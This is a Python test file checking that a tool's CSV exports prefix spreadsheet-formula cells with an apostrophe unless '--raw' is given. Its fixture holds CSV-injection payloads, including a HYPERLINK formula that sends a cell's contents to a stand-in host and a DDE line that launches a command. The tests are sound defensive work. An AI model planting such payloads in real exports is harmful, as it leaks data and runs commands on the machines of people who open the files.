"""Issue 8 item 9: exported CSV cells that a spreadsheet would run as formulas get a leading
``'`` unless ``--raw``: `workbench table export` to a file and to standard output, and the
knowledge base's CSV export."""

from __future__ import annotations

import csv
import io
import json

from support import copy_sample
from support.cli import run_cli

from workbench.engines.knowledge_base.kb import KnowledgeBase
from workbench.index import open_index
from workbench.store import open_store

#: a person's message made into a state, and what a spreadsheet would do with it
CELLS = {
    "s_equals": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "s_plus": "+cmd|' /C calc'!A0",
    "s_minus": "-2+3",
    "s_at": "@SUM(A1:A9)",
    "s_tab": "\t=1+1",
    "s_cr": "\r=1+1",
    "s_plain": "Hello there",
    "s_number": "-1",
}


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {r["state"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}


def test_secrets_table_export_neutralises_formula_cells_unless_raw(tmp_path) -> None:
    task = copy_sample("helpdesk", tmp_path)
    table = tmp_path / "people.json"
    table.write_text(json.dumps([{"state": name, "bubble": text} for name, text in CELLS.items()]))
    assert run_cli("table", "import", str(task), str(table), "--replace").returncode == 0

    out = tmp_path / "out.csv"
    res = run_cli("table", "export", str(task), str(out))
    assert res.returncode == 0, res.stderr
    safe = _rows(out.read_bytes().decode("utf-8"))
    assert {name: safe[name]["bubble"] for name in CELLS} == {
        name: text if name in ("s_plain", "s_number") else "'" + text for name, text in CELLS.items()
    }
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in safe.values() for cell in row.values())

    stdout = run_cli("table", "export", str(task), "-", "--format", "csv").stdout
    assert _rows(stdout)["s_equals"]["bubble"] == "'" + CELLS["s_equals"]

    raw = tmp_path / "raw.csv"
    assert run_cli("table", "export", str(task), str(raw), "--raw").returncode == 0
    assert {name: row["bubble"] for name, row in _rows(raw.read_bytes().decode("utf-8")).items()} == CELLS
    # the raw file is the one that reads back exactly
    assert run_cli("table", "check", str(task), str(raw)).returncode == 0


def test_secrets_knowledge_base_csv_export_neutralises_formula_cells(tmp_path) -> None:
    store = open_store(tmp_path / "kb.db")
    try:
        kb = KnowledgeBase(store, open_index(None), "desk")
        kb.import_jsonl(
            io.StringIO(
                "\n".join(
                    json.dumps({"id": str(i), "question": f"q{i}", "answer": text})
                    for i, text in enumerate(CELLS.values())
                )
            )
        )
        kb.export_csv(tmp_path / "kb.csv")
        kb.export_csv(tmp_path / "kb_raw.csv", raw=True)
    finally:
        store.close()
    answers = [r["answer"] for r in csv.DictReader((tmp_path / "kb.csv").open(encoding="utf-8", newline=""))]
    raw = [r["answer"] for r in csv.DictReader((tmp_path / "kb_raw.csv").open(encoding="utf-8", newline=""))]
    assert raw == list(CELLS.values())
    assert answers == [t if t in ("Hello there", "-1") else "'" + t for t in CELLS.values()]
